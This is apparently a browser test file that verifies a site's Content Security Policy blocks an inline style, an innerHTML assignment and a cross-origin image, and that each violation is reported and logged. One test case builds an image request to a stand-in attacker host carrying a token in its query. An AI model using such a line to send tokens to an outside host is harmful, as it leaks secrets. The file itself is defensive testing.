import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../support/browser.ts';
import { eventually } from '../support/eventually.ts';
import { sharedRun } from '../support/http.ts';
import { startTlsFront, type TlsFront } from '../support/tls-front.ts';
import { loggedViolations } from '../support/violations.ts';

let front: TlsFront;
let browser: Browser;

// Chromium sends reports over TLS only.
beforeAll(async () => {
  front = await startTlsFront(sharedRun.site);
  browser = await launchBrowser([
    `--host-resolver-rules=MAP ${front.host}:443 127.0.0.1:${front.ports.https}`,
    `--ignore-certificate-errors-spki-list=${front.keyHash}`,
    // By default Chromium delays reports for a minute.
    '--short-reporting-delay',
  ]);
});
afterAll(async () => {
  await browser?.close();
  await front?.close();
});

/** Opens a page with a unique path. The query must not be logged. */
async function open(): Promise<{ page: Page; path: string }> {
  const context = await browser.newContext();
  // Headless Chromium sends reports only with this permission.
  await context.grantPermissions(['background-sync'], { origin: `https://${front.host}` });
  const page = await context.newPage();
  const path = `/${crypto.randomUUID()}/`;
  await page.goto(`https://${front.host}${path}?name=somebody`);
  return { page, path };
}

test.each([
  [
    'an inline style',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p { color: red }' }))`,
    { directive: 'style-src-elem', blocked: 'inline' },
  ],
  [
    'an assignment to innerHTML',
    `try { document.body.innerHTML = '<b>x</b>' } catch {}`,
    { directive: 'require-trusted-types-for', blocked: 'trusted-types-sink' },
  ],
  [
    'an image of another site',
    `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/a.png?token=1' }))`,
    { directive: 'img-src', blocked: 'https://evil.example' },
  ],
])('%s is blocked, reported by the browser, and logged', async (_what, script, violation) => {
  const { page, path } = await open();
  await page.evaluate(script);
  await eventually(
    () => loggedViolations(path),
    (logged) => expect(logged).toMatchObject([{ ...violation, page: path, disposition: 'enforce' }]),
    { timeoutMs: 20_000 },
  );
});
